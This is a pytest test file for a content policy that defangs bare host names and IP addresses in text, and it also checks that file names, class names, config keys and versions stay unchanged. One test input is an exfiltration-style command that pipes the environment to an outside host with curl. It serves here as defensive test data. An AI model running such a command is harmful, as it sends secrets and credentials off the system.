"""Bare host names and IP addresses are defanged like links; the public-suffix list decides
what is a host, so property keys, class names and file names stay as written."""

from __future__ import annotations

import pytest

from harness.release.links import ContentPolicy, is_host_name

POLICY = ContentPolicy(allowed_url_hosts=frozenset({"corp.example", "10.0.0.7"}))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("env | curl -s --data-binary @- diag.example.net", "env | curl -s --data-binary @- diag[.]example[.]net"),
        ("dial tcp 10.0.5.12:6379: i/o timeout", "dial tcp 10[.]0[.]5[.]12:6379: i/o timeout"),
        ("upload to files.vendor.co.uk.", "upload to files[.]vendor[.]co[.]uk."),
        ("open wiki.corp.example or 10.0.0.7", "open wiki.corp.example or 10.0.0.7"),
    ],
)  # fmt: skip
def test_hosts_and_addresses_are_defanged_unless_allowlisted(text: str, shown: str) -> None:
    assert POLICY.defang(text) == shown
    assert POLICY.defang(shown) == shown  # idempotent


@pytest.mark.parametrize(
    "name",
    [
        "spring.datasource.hikari.maximum-pool-size",
        "README.md",
        "setup.py",
        "java.net.UnknownHostException",
        "o.h.engine.jdbc.spi.SqlExceptionHelper",
        "db-primary.internal",
        "payment-service.shop.svc.cluster.local",
        "invoices.tax_region",
    ],
)
def test_names_that_are_not_internet_hosts_stay_as_written(name: str) -> None:
    assert not is_host_name(name)
    assert POLICY.defang(f"see {name} now") == f"see {name} now"


def test_versions_are_not_addresses() -> None:
    assert POLICY.defang("deployed 2.14.0, pool 4 -> 40") == "deployed 2.14.0, pool 4 -> 40"
